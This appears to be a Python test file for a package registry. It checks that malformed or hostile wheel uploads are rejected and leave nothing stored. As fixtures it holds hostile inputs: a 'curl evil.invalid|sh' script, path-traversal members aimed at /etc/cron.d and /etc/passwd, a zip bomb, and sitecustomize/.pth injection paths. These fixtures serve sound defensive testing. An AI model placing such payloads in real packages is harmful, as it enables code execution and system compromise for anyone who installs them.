"""Bad uploads: each a clear problem document, nothing stored, nothing indexed."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from catalog.models import Release, Tool
from core.models import Job
from publishing.models import Publication
from tests.package.wheels import build_wheel, members, record_text, write_zip
from tests.support import Person, assert_finding, assert_problem

Upload = tuple[str, bytes]
NAME = "demo_hello-1.0.0-py3-none-any.whl"


@pytest.fixture(autouse=True)
def _nothing_is_stored(db: None, own_folders: Path) -> Iterator[None]:
    yield
    for model in (Publication, Release, Tool):
        assert not model.objects.exists(), model
    assert not Job.objects.exclude(task="registry.claim_namespace").exists()  # the cast's own
    for folder in ("private", "public", "tmp", "search"):
        left = [path for path in (own_folders / folder).rglob("*") if path.is_file()]
        assert left == [], left


def _sound(tmp_path: Path) -> bytes:
    return build_wheel(tmp_path).read_bytes()


def _with_members(tmp_path: Path, *members: tuple[str, bytes]) -> bytes:
    """A sound wheel with members written behind its own."""
    target = io.BytesIO(_sound(tmp_path))
    with warnings.catch_warnings(), zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")
        for name, content in members:
            archive.writestr(name, content)
    return target.getvalue()


def _not_a_zip(tmp_path: Path) -> bytes:
    return b"This is a letter, not a wheel.\n" * 40


def _empty(tmp_path: Path) -> bytes:
    return b"\n"


def _cut_short(tmp_path: Path) -> bytes:
    return _sound(tmp_path)[:-100]


def _prefixed(tmp_path: Path) -> bytes:
    return b"#!/bin/sh\nexit 1\n" + _sound(tmp_path)


def _suffixed(tmp_path: Path) -> bytes:
    return _sound(tmp_path) + b"more"


def _escaping(tmp_path: Path) -> bytes:
    return _with_members(tmp_path, ("../../etc/cron.d/job", b"* * * * * root true\n"))


def _absolute(tmp_path: Path) -> bytes:
    return _with_members(tmp_path, ("/etc/passwd", b"root::0:0::/:/bin/sh\n"))


def _duplicated(tmp_path: Path) -> bytes:
    return _with_members(tmp_path, ("demo_hello/__init__.py", b"evil = True\n"))


def _bomb(tmp_path: Path) -> bytes:
    return _with_members(tmp_path, ("demo_hello/zeros.bin", bytes(30_000_000)))


def _encrypted(tmp_path: Path) -> bytes:
    content = bytearray(_sound(tmp_path))
    flags = struct.pack("<H", 1)
    content[6:8] = flags
    start = content.index(b"PK\x01\x02")
    content[start + 8 : start + 10] = flags
    return bytes(content)


@pytest.mark.parametrize(
    "make",
    [
        _not_a_zip, _empty, _cut_short, _prefixed, _suffixed, _escaping, _absolute, _duplicated,
        _bomb, _encrypted,
    ],
)  # fmt: skip
def test_an_archive_that_breaks_a_rule(
    alice: Person, tmp_path: Path, make: Callable[[Path], bytes]
) -> None:
    document = assert_problem(alice.publish((NAME, make(tmp_path))), 422, "archive/…")
    assert document["code"] == "package_refused"
    assert_finding(document, "archive/…")


def test_a_data_folder(alice: Person, tmp_path: Path) -> None:
    wheel = build_wheel(
        tmp_path, files={"demo_hello-1.0.0.data/scripts/run": "#!/bin/sh\ncurl evil.invalid|sh\n"}
    )
    finding = assert_finding(assert_problem(alice.publish(wheel), 422, "package_refused"), "…")
    assert ".data" in finding["message"]


@pytest.mark.parametrize(
    "path", ["demo_hello.pth", "sitecustomize.py", "other_package/__init__.py", "demo_hello/x.pyc"]
)
def test_a_file_outside_the_import_package_or_of_a_forbidden_kind(
    alice: Person, tmp_path: Path, path: str
) -> None:
    wheel = build_wheel(tmp_path, files={path: "import os\n"})
    assert_problem(alice.publish(wheel), 422, "package_refused")


def test_a_distribution_name_without_a_namespace(alice: Person, tmp_path: Path) -> None:
    parts = {
        name.replace("demo_hello", "hello"): content.replace(b"demo-hello", b"hello")
        for name, content in members().items()
    }
    record = "hello-1.0.0.dist-info/RECORD"
    parts[record] = record_text(parts, record).encode()
    wheel = tmp_path / "hello-1.0.0-py3-none-any.whl"
    write_zip(wheel, parts)
    assert_problem(alice.publish(wheel), 422, "name/…")


@pytest.mark.parametrize("tool", ["django/allauth", "google/auth", "scikit/learn"])
def test_a_name_that_a_popular_python_package_has(alice: Person, tmp_path: Path, tool: str) -> None:
    wheel = build_wheel(tmp_path, tool=tool)
    answer = alice.publish(wheel)
    assert answer.status in (403, 422)
    assert answer.json()["suggestion"]


def test_a_popular_name_in_ones_own_namespace(charlie: Person, tmp_path: Path) -> None:
    from accounts.models import Namespace, User

    user = User.objects.get(email=charlie.email)
    Namespace.objects.create(name="flask", user=user)
    wheel = build_wheel(tmp_path, tool="flask/login")
    assert_problem(charlie.publish(wheel), 422, "name/…")


def test_somebody_elses_namespace(charlie: Person, tmp_path: Path) -> None:
    document = assert_problem(charlie.publish(build_wheel(tmp_path)), 403, "namespace_not_yours")
    assert "charlie" in document["suggestion"]


def test_the_official_namespace(charlie: Person, tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, tool="lumos/backdoor")
    assert_problem(charlie.publish(wheel), 403, "namespace_not_yours")


def test_a_missing_license(alice: Person, tmp_path: Path) -> None:
    wheel = build_wheel(
        tmp_path, license_text=None, metadata={"License-Expression": None, "License-File": None}
    )
    document = assert_problem(alice.publish(wheel), 422, "package_refused")
    assert any("licen" in finding["rule"] for finding in document["findings"]), document


def test_metadata_that_disagrees_with_the_file_name(alice: Person, tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, metadata={"Name": "demo-goodbye"})
    assert_problem(alice.publish(wheel), 422, "package_refused")
    wheel = build_wheel(tmp_path, metadata={"Version": "9.9.9"})
    assert_problem(alice.publish(wheel), 422, "package_refused")


def test_a_file_name_that_is_sent_with_a_path_is_read_without_it(
    alice: Person, tmp_path: Path
) -> None:
    answer = alice.publish(("../../" + NAME, b"no zip"))
    assert_problem(answer, 422, "archive/…")


@pytest.mark.parametrize(
    "manifest",
    [
        "",
        "schema = 1",
        "schema = 99\n",
        "not toml at all [",
        'schema = 1\ntitle = "T"\ncategory = "no"\n',
    ],
)
def test_a_manifest_that_says_too_little(alice: Person, tmp_path: Path, manifest: str) -> None:
    wheel = build_wheel(tmp_path, manifest=manifest)
    document = assert_problem(alice.publish(wheel), 422, "manifest/…")
    assert assert_finding(document, "manifest/…")["file"].endswith("tool.toml")


def test_no_manifest_and_no_functions(alice: Person, tmp_path: Path) -> None:
    assert_problem(alice.publish(build_wheel(tmp_path, manifest=False)), 422, "package_refused")
    assert_problem(alice.publish(build_wheel(tmp_path, functions=False)), 422, "package_refused")


def test_every_fault_is_named_at_once(alice: Person, tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, metadata={"Summary": None}, manifest="schema = 1")
    document = assert_problem(alice.publish(wheel), 422, "package_refused")
    subjects = {finding["rule"].partition("/")[0] for finding in document["findings"]}
    assert {"metadata", "manifest"} <= subjects, document["findings"]


def test_60_megabytes(alice: Person) -> None:
    document = assert_problem(
        alice.publish((NAME, bytes(60 * 1024 * 1024))), 413, "wheel_too_large"
    )
    assert document["limit_bytes"] == 50 * 1024 * 1024


def test_60_megabytes_behind_a_false_content_length(alice: Person) -> None:
    """A client that lies about the length is cut off at the limit all the same."""
    from tests.support.transports import multipart

    headers, body = multipart({}, {"wheel": (NAME, bytes(51 * 1024 * 1024))})
    answer = alice.send("POST", "/api/v1/publications", headers=headers, body=body)
    assert_problem(answer, 413, "wheel_too_large")


def test_bytes_that_were_damaged_on_the_way(alice: Person, tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path)
    assert_problem(alice.publish(wheel, sha256="0" * 64), 422, "digest_mismatch")
    assert_problem(alice.publish(wheel, sha256="nonsense"), 422, "digest_invalid")
    announced = alice.with_headers(Content_Digest="sha-256=:!!!!:")
    assert_problem(announced.publish(wheel), 422, "digest_invalid")


def test_json_instead_of_a_form(alice: Person) -> None:
    answer = alice.post("/api/v1/publications", {"wheel": "hello"})
    assert_problem(answer, 415, "unsupported_media_type")


def test_a_form_that_is_torn(alice: Person) -> None:
    headers = {"Content-Type": "multipart/form-data; boundary=x"}
    answer = alice.send("POST", "/api/v1/publications", headers=headers, body=b"--x\r\nContent-")
    assert answer.status == 400
    assert answer.headers["content-type"] == "application/problem+json"


def test_two_files_in_one_form_leave_neither_behind(alice: Person, tmp_path: Path) -> None:
    from tests.support.transports import multipart

    headers, body = multipart({}, {"other": (NAME, _sound(tmp_path)), "wheel": (NAME, b"no zip")})
    answer = alice.send("POST", "/api/v1/publications", headers=headers, body=body)
    assert_problem(answer, 422, "archive/…")
